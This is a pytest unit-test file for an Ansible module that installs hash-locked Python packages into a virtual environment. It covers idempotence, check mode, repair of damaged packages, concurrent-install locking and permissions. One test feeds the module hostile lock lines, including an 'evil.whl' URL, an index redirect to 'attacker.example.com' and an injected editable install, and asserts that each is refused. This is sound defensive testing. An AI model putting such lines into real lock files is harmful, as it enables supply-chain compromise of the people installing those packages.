# SPDX-License-Identifier: GPL-3.0-or-later
"""What python_packages makes of an environment: all of a lock or a failure that says so, and nothing on a second run.

The environment and its interpreter are real. Installing is a stand-in that lays out what uv and pip leave on the disk.
"""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible_collections.neuronops.vllm.plugins.module_utils import packages, turns
from ansible_collections.neuronops.vllm.plugins.module_utils.environment import normalised
from ansible_collections.neuronops.vllm.plugins.modules import python_packages

from tests.unit.test_packages import LOCK
from tests.unit.tiny_wheel import make_wheel

IDNA = "idna==3.10 \\\n    --hash=sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
DEMO = "demo-core==1.0 \\\n    --hash=sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n"
SETUPTOOLS = (
    "setuptools==79.0.1 \\\n    --hash=sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc\n"
)


class Installer:
    """Does to an environment what uv and pip do; everything else that is run is really run."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.commands: list[list[str]] = []
        self.locks: list[str] = []
        self.check = ""  # what `pip check` complains about
        self.damaged_in_cache: set[str] = set()
        self.imports: list[str] = []

    def __call__(self, command: list[str], sources: Any, log: str, path: str) -> str:
        assert Path(log).is_file(), "nobody could watch"
        self.sources = sources
        self.commands.append(command)
        if "install" in command:
            self.locks.append(Path(command[-1]).read_text())
            for name, version in packages.parse_lock(self.locks[-1]).items():
                self.install(name, version)
        elif "uninstall" in command:
            for name in command[command.index("uninstall") + 1 :]:
                self.remove(name)
        elif "clean" in command:
            self.damaged_in_cache -= set(command[command.index("clean") + 1 :])
        elif "check" in command:
            if self.check:
                raise packages.PackagesError(f"`pip check` ended with status 1: {self.check}")
        else:
            self.imports = command[4:]
            packages.run(command, sources, log, path=path)
        return ""

    def actions(self) -> list[str]:
        known = ("install", "uninstall", "clean", "check")
        return [next((word for word in command if word in known), "import") for command in self.commands]

    def install(self, name: str, version: str) -> None:
        if self.there().get(name) == version:
            return  # as uv and pip do, whatever is wrong with its files
        self.remove(name)
        folder = self.folder / f"{name.replace('-', '_')}-{version}.dist-info"
        folder.mkdir()
        (folder / "METADATA").touch()
        module = self.folder / f"{name.replace('-', '_')}.py"
        module.write_text("" if name in self.damaged_in_cache else "whole = True\n")
        (folder / "RECORD").write_text(f"{module.name},sha256=0,13\n")

    def remove(self, name: str) -> None:
        for folder in self.folder.glob("*.dist-info"):
            if normalised(folder.name[: -len(".dist-info")].rpartition("-")[0]) == name:
                shutil.rmtree(folder)

    def there(self) -> dict[str, str]:
        found = (folder.name[: -len(".dist-info")].rpartition("-") for folder in self.folder.glob("*.dist-info"))
        return {normalised(name): version for name, _dash, version in found}


@pytest.fixture
def installer(packages_folder: Path, monkeypatch: pytest.MonkeyPatch) -> Installer:
    stand_in = Installer(packages_folder)
    monkeypatch.setattr(python_packages, "run", stand_in)
    monkeypatch.setattr(python_packages, "have_uv", lambda *_arguments: "/tools/uv")
    return stand_in


@pytest.fixture
def run(run_module: Callable[..., dict[str, Any]], environment: Path, installer: Installer) -> Any:
    """Run the module on the environment and return its answer."""

    def run(lock: str | None = IDNA, **arguments: Any) -> dict[str, Any]:
        installer.commands.clear()
        installer.locks.clear()
        return run_module(python_packages, **{"name": "demo", "path": str(environment), "lock": lock, **arguments})

    return run


def everything(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def test_a_lock_is_installed_once_and_left_in_the_environment(
    run: Any, environment: Path, installer: Installer
) -> None:
    first = run(IDNA + DEMO, imports=["idna", "demo_core"])
    assert not first["failed"], first
    assert first["changed"]
    assert first["packages"] == installer.there() == {"idna": "3.10", "demo-core": "1.0"}
    assert installer.actions() == ["install", "import", "check"]
    assert installer.imports == ["idna", "demo_core"]
    lock, constraints = environment / "neuronops" / "demo.lock", environment / "neuronops" / "constraints.txt"
    assert lock.read_text() == DEMO + IDNA
    assert constraints.read_text() == "demo-core==1.0\nidna==3.10\n"
    assert [file.stat().st_mode & 0o777 for file in (lock, constraints)] == [0o644, 0o644]
    second = run(IDNA + DEMO, imports=["idna", "demo_core"])
    assert (second["changed"], installer.commands) == (False, [])
    assert second["packages"] == first["packages"]


def test_only_files_with_the_hashes_of_the_lock_are_taken(run: Any, installer: Installer) -> None:
    neuron = "https://neuron.example.com"
    for name in ("uv", "pip"):
        installer.remove("idna")
        run(installer=name, sources={"neuron_index_url": neuron})
        command = installer.commands[0]
        assert {"--no-deps", "--require-hashes"} < set(command)
        assert installer.sources["neuron_index_url"] == neuron
        assert installer.locks == [IDNA]
        assert not Path(command[-1]).exists(), "left behind"


def test_pip_is_the_environments_own(run: Any, environment: Path, installer: Installer) -> None:
    (installer.folder / "pip").mkdir()
    run(IDNA + DEMO, installer="pip")
    run(IDNA, installer="pip")
    assert installer.actions() == ["uninstall", "check"]
    for command in installer.commands:
        assert command[:4] == [str(environment / "bin" / "python"), "-I", "-m", "pip"]
    assert installer.commands[0][4:] == ["uninstall", "--yes", "demo-core"]


def test_what_others_are_built_with_comes_first(run: Any, installer: Installer) -> None:
    run(IDNA + SETUPTOOLS)
    assert installer.locks == [SETUPTOOLS, IDNA + SETUPTOOLS]
    installer.remove("idna")
    run(IDNA + SETUPTOOLS)
    assert installer.locks == [IDNA + SETUPTOOLS], "setuptools was there already"


def test_a_check_run_says_what_would_change_and_changes_nothing(
    run: Any, environment: Path, installer: Installer
) -> None:
    run(IDNA + DEMO)
    before = everything(environment)
    answer = run(IDNA.replace("3.10", "3.11"), check=True)
    assert answer["changed"]
    assert answer["diff"] == {"before": "idna 3.10\ndemo-core 1.0\n", "after": "idna 3.11\n"}
    assert installer.commands == []
    assert everything(environment) == before
    assert not run(IDNA + DEMO, check=True)["changed"]


def test_a_check_run_succeeds_where_there_is_no_environment_yet(run: Any, tmp_path: Path) -> None:
    answer = run("", path=str(tmp_path / "none"), check=True)
    assert (answer["failed"], answer["changed"], answer["packages"]) == (False, True, {})
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ({"lock": ""}, "The lock of demo is empty; python_lock makes one."),
        ({"excluded": ["IDNA"]}, "it has idna, which must never be installed."),
    ],
)
def test_a_lock_that_cannot_be_right_is_refused_before_anything_is_done(
    run: Any, environment: Path, installer: Installer, arguments: dict[str, Any], says: str
) -> None:
    before = everything(environment)
    answer = run(**arguments)
    assert answer["failed"]
    assert says in answer["msg"]
    assert installer.commands == []
    assert everything(environment) == before


def test_an_environment_that_does_not_work_is_refused(run: Any, environment: Path, tmp_path: Path) -> None:
    nowhere = run(path=str(tmp_path / "none"))
    assert f"There is no working environment in {tmp_path}/none: it does not exist" in nowhere["msg"]
    assert not (tmp_path / "none").exists()
    (environment / "bin" / "python").unlink()
    broken = run()
    assert broken["failed"]
    assert "does not run" in broken["msg"]
    assert "neuron_venv makes or rebuilds it" in broken["msg"]
    assert not (environment / "neuronops").exists()


def test_a_damaged_package_is_removed_and_installed_anew(run: Any, installer: Installer) -> None:
    run(IDNA + DEMO)
    (installer.folder / "idna.py").write_text("cut")
    answer = run(IDNA + DEMO)
    assert answer["diff"]["before"] == "idna 3.10, damaged: idna.py has 3 bytes in place of 13\n"
    assert installer.actions() == ["install", "check"]
    assert (installer.folder / "idna.py").read_text() == "whole = True\n"
    assert not run(IDNA + DEMO)["changed"]


def test_a_package_that_is_there_twice_is_there_once_afterwards(run: Any, installer: Installer) -> None:
    run()
    shutil.copytree(installer.folder / "idna-3.10.dist-info", installer.folder / "idna-2.0.dist-info")
    assert run()["changed"]
    assert [path.name for path in installer.folder.glob("idna-*")] == ["idna-3.10.dist-info"]


def test_what_an_interrupted_installation_left_is_removed(run: Any, installer: Installer) -> None:
    run()
    (installer.folder / "~dna").mkdir()
    (installer.folder / "~dna.py").touch()
    assert run()["changed"]
    assert list(installer.folder.glob("~*")) == []
    assert installer.there() == {"idna": "3.10"}
    assert not run()["changed"]


def test_a_file_that_is_damaged_in_uvs_cache_is_fetched_again(run: Any, installer: Installer) -> None:
    installer.damaged_in_cache = {"idna"}
    answer = run(IDNA + DEMO)
    assert not answer["failed"], answer
    assert installer.actions() == ["install", "clean", "install", "check"]
    assert installer.commands[1] == ["/tools/uv", "cache", "clean", "idna"]
    assert not run(IDNA + DEMO)["changed"]


def test_what_is_still_wrong_after_the_installation_is_a_failure(
    run: Any, environment: Path, installer: Installer
) -> None:
    installer.damaged_in_cache = {"idna"}
    answer = run(installer="pip")
    assert answer["failed"]
    assert "The packages of demo could not be installed" in answer["msg"]
    assert "installed, and still not right: {'idna'" in answer["msg"]
    assert answer["log"] == str(environment / "neuronops" / "demo.log")
    assert not (environment / "neuronops" / "demo.lock").exists()


def test_a_module_that_cannot_be_imported_is_a_failure_that_the_next_run_meets_again(
    run: Any, environment: Path
) -> None:
    for _time in range(2):
        answer = run(imports=["idna", "there_is_no_such_module"])
        assert answer["failed"]
        assert "No module named 'there_is_no_such_module'" in answer["msg"]
        assert not (environment / "neuronops" / "demo.lock").exists()
    assert "Importing there_is_no_such_module" in Path(answer["log"]).read_text()


def test_pip_check_fails_the_run_for_packages_of_the_lock_alone(
    run: Any, environment: Path, installer: Installer
) -> None:
    installer.check = "somebodys 1.0 requires x, which is not installed.\nidna 3.10 requires y, which is not installed."
    answer = run()
    assert answer["failed"]
    assert answer["msg"].endswith("pip check says: idna 3.10 requires y, which is not installed.")
    assert not (environment / "neuronops" / "demo.lock").exists()
    assert not run(excluded=["y"])["failed"]
    assert (environment / "neuronops" / "demo.lock").exists()


def test_what_left_the_lock_goes_unless_another_role_has_it(run: Any, environment: Path, installer: Installer) -> None:
    run(IDNA + DEMO + SETUPTOOLS)
    (environment / "neuronops" / "other.lock").write_text(DEMO)
    (environment / "neuronops" / "vllm.json").write_text(json.dumps({"packages": {"idna": "3.10"}}))
    last = "last==1 \\\n    --hash=sha256:dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\n"
    assert run(last)["changed"]
    assert installer.there() == {"last": "1", "idna": "3.10", "demo-core": "1.0"}
    constraints = environment / "neuronops" / "constraints.txt"
    assert constraints.read_text() == "demo-core==1.0\nlast==1\n"


def test_the_manifest_of_the_same_role_keeps_nothing(run: Any, environment: Path, installer: Installer) -> None:
    run(IDNA + DEMO)
    (environment / "neuronops" / "demo.json").write_text(json.dumps({"packages": {"demo-core": "1.0"}}))
    run(IDNA)
    assert installer.there() == {"idna": "3.10"}


def test_somebodys_own_packages_are_named_and_removed_only_when_asked(run: Any, installer: Installer) -> None:
    installer.install("somebodys", "1.0")
    assert run()["foreign"] == ["somebodys"]
    assert installer.there() == {"somebodys": "1.0", "idna": "3.10"}
    answer = run(exact=True)
    assert (answer["changed"], answer["foreign"]) == (True, [])
    assert answer["diff"]["before"] == "somebodys 1.0\n"
    assert installer.there() == {"idna": "3.10"}
    assert not run(exact=True)["changed"]


def test_absent_takes_what_this_lock_brought_and_no_more(run: Any, environment: Path, installer: Installer) -> None:
    run(DEMO, name="other")
    installer.install("somebodys", "1.0")
    run(IDNA + DEMO)
    before = everything(environment)
    assert run(None, state="absent", check=True)["changed"]
    assert everything(environment) == before
    answer = run(None, state="absent")
    assert (answer["changed"], answer["packages"]) == (True, {})
    assert installer.there() == {"demo-core": "1.0", "somebodys": "1.0"}
    assert not (environment / "neuronops" / "demo.lock").exists()
    assert (environment / "neuronops" / "constraints.txt").read_text() == "demo-core==1.0\n"
    assert not run(None, state="absent")["changed"]


def test_absent_is_nothing_to_do_where_there_is_no_environment(run: Any, tmp_path: Path) -> None:
    answer = run(None, state="absent", path=str(tmp_path / "none"))
    assert (answer["failed"], answer["changed"]) == (False, False)
    assert not (tmp_path / "none").exists()


@pytest.fixture
def another_at_work(environment: Path) -> Iterator[Any]:
    """An installation into the environment that has not ended."""
    (environment / "neuronops").mkdir()
    with (environment / "neuronops" / ".busy").open("w") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        yield file


def test_another_installation_is_waited_for(
    run: Any, environment: Path, installer: Installer, another_at_work: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    log, waited = environment / "neuronops" / "demo.log", []

    def sleep(seconds: int) -> None:
        assert installer.commands == []
        waited.append(log.read_text())
        if len(waited) == 2:
            fcntl.flock(another_at_work, fcntl.LOCK_UN)

    monkeypatch.setattr(python_packages, "time", SimpleNamespace(sleep=sleep))
    assert run()["changed"]
    assert len(waited) == 2
    assert f"Waiting for another installation into {environment}" in waited[0]
    assert "Waiting" not in log.read_text(), "what was said before the work is of no use"


def test_another_installation_that_never_ends_is_a_failure(
    run: Any, installer: Installer, another_at_work: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(python_packages, "time", SimpleNamespace(sleep=lambda _seconds: None))
    monkeypatch.setattr(python_packages, "SECONDS_TO_WAIT", 3)
    answer = run()
    assert answer["failed"]
    assert "has been at work for 3 s" in answer["msg"]
    assert "a process that has not said yet who it is" in answer["msg"]
    assert (installer.commands, installer.there()) == ([], {})


def test_another_installation_is_named(run: Any, environment: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(python_packages, "SECONDS_TO_WAIT", 1)
    (environment / "neuronops").mkdir()
    file, _nobody = turns.take(environment / "neuronops" / ".busy", 0, "alice on laptop")
    answer = run()
    file.close()
    assert answer["failed"]
    assert f"{environment}, process {os.getpid()}, since 2" in answer["msg"] and "by alice on laptop" in answer["msg"]
    assert run()["changed"]


def test_uv_copies_where_it_cannot_link(run: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for cache, mode in ((tmp_path, None), (Path("/proc"), "copy")):
        monkeypatch.setenv("UV_LINK_MODE", "to be put back after the test")
        monkeypatch.delenv("UV_LINK_MODE")
        monkeypatch.setenv("UV_CACHE_DIR", str(cache))
        run()
        assert os.environ.get("UV_LINK_MODE") == mode


def test_a_link_leads_to_the_environment(run: Any, environment: Path, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(environment)
    assert run(path=str(link))["changed"]
    assert (environment / "neuronops" / "demo.lock").read_text() == IDNA
    assert not run()["changed"]


def test_a_part_of_a_lock_keeps_its_hashes() -> None:
    assert python_packages.lock_part(LOCK, ["idna", "torch-neuronx"]) == LOCK.replace("# head\n", "").replace(
        "setuptools==79.0.1 \\\n    --hash=sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc\n",
        "",
    )


def test_what_must_be_installed() -> None:
    wanted = {"missing": "1", "other": "1", "damaged": "1", "right": "2024.1.2"}
    installed = {"other": "2", "damaged": "1", "right": "2024.01.02", "foreign": "1"}
    found = python_packages.wrong_packages(wanted, installed, {"damaged": "cut off"})
    assert found == {"missing": (None, "1"), "other": ("2", "1"), "damaged": ("1, damaged: cut off", "1")}


@pytest.mark.parametrize(
    ("line", "complaint"),
    [
        ("notebook 7.0 requires tornado, which is not installed.", True),
        ("Notebook 7.0 has requirement tornado>6, but you have tornado 5.", True),
        ("outlines 0.0.46 requires pyairports, which is not installed.", False),
        ("somebodys 1.0 requires something, which is not installed.", False),
    ],
)
def test_pip_check_complains_about_the_packages_of_the_lock(line: str, complaint: bool) -> None:
    assert python_packages.complains(line, {"notebook", "outlines"}, {"pyairports"}) is complaint


@pytest.mark.parametrize(
    "lock",
    [
        IDNA + f"evil @ http://127.0.0.1:1/evil.whl --hash=sha256:{'a' * 64}\n",
        "--index-url http://attacker.example.com/simple\n" + IDNA,
        IDNA.replace("==", "[x]=="),
        IDNA + "\x0c-e .\n",
        "idna==3.10\n",
    ],
)
def test_a_lock_that_is_not_understood_is_refused_before_anything_starts(
    run: Any, environment: Path, installer: Installer, lock: str
) -> None:
    before = everything(environment)
    answer = run(lock)
    assert answer["failed"]
    assert "The lock of demo is refused, and nothing was installed: line" in answer["msg"]
    assert (installer.commands, everything(environment)) == ([], before)


def test_the_name_of_a_lock_is_no_path(run: Any, installer: Installer) -> None:
    for name in ("../x", "a/b", "", "-r"):
        assert "refused" in run(name=name)["msg"]
    assert installer.commands == []


def test_the_imports_find_nothing_beside_the_caller(
    run: Any, environment: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "wanted.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    answer = run(imports=["wanted"])
    assert "No module named 'wanted'" in answer["msg"]
    assert not (tmp_path / "ran").exists()


def test_a_damaged_lock_of_another_counts_as_none_and_is_said(
    run: Any, environment: Path, installer: Installer
) -> None:
    (environment / "neuronops").mkdir()
    (environment / "neuronops" / "other.lock").write_bytes(b"\0" * 40)
    answer = run()
    assert not answer["failed"], answer
    assert "other.lock is damaged" in answer["warnings"][0]


def test_other_users_can_read_what_was_installed(run: Any, environment: Path, installer: Installer) -> None:
    before = os.umask(0o077)
    try:
        assert run()["changed"]
        file, log = installer.folder / "idna.py", environment / "neuronops" / "demo.lock"
        assert [path.stat().st_mode & 0o777 for path in (file, log)] == [0o644, 0o644]
        file.chmod(0o600)
        (environment / ".lock").touch()
        (environment / ".lock").chmod(0o666)  # as uv makes it
        (environment / "pip.conf").touch(0o600)
        assert run()["changed"]
        assert [path.stat().st_mode & 0o777 for path in (file, environment / ".lock")] == [0o644, 0o644]
        assert (environment / "pip.conf").stat().st_mode & 0o777 == 0o600
        assert installer.actions() == ["check"], "nothing is installed again for it"
        assert not run()["changed"]
    finally:
        os.umask(before)


@pytest.mark.parametrize("program", ["uv", "pip"])
@pytest.mark.parametrize("wheelhouse", [True, False])
def test_a_wheel_that_was_built_is_found_beside_all_others(
    program: str,
    wheelhouse: bool,
    run_module: Callable[..., dict[str, Any]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With the real programs: one package of the wheelhouse or of the host's find-links, one that was built."""
    venv, others, built = tmp_path / "venv", tmp_path / "others", tmp_path / "built"
    subprocess.run([sys.executable, "-m", "venv", venv], check=True)
    wheels = [make_wheel(others, "other", "1.0"), make_wheel(built, "made-here", "1.0+empty")]
    lock = "".join(
        f"{name} \\\n    --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}\n"
        for name, wheel in zip(("other==1.0", "made-here==1.0+empty"), wheels, strict=True)
    )
    monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path / "none") if wheelhouse else str(others))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(python_packages, "have_uv", lambda *_arguments: str(Path(sys.executable).parent / "uv"))
    arguments = {"name": "demo", "path": str(venv), "lock": lock, "installer": program, "wheels": str(built)}
    sources = {"wheelhouse": str(others)} if wheelhouse else {}
    answer = run_module(python_packages, **arguments, sources=sources)
    assert answer.get("packages") == {"other": "1.0", "made-here": "1.0+empty"}, answer
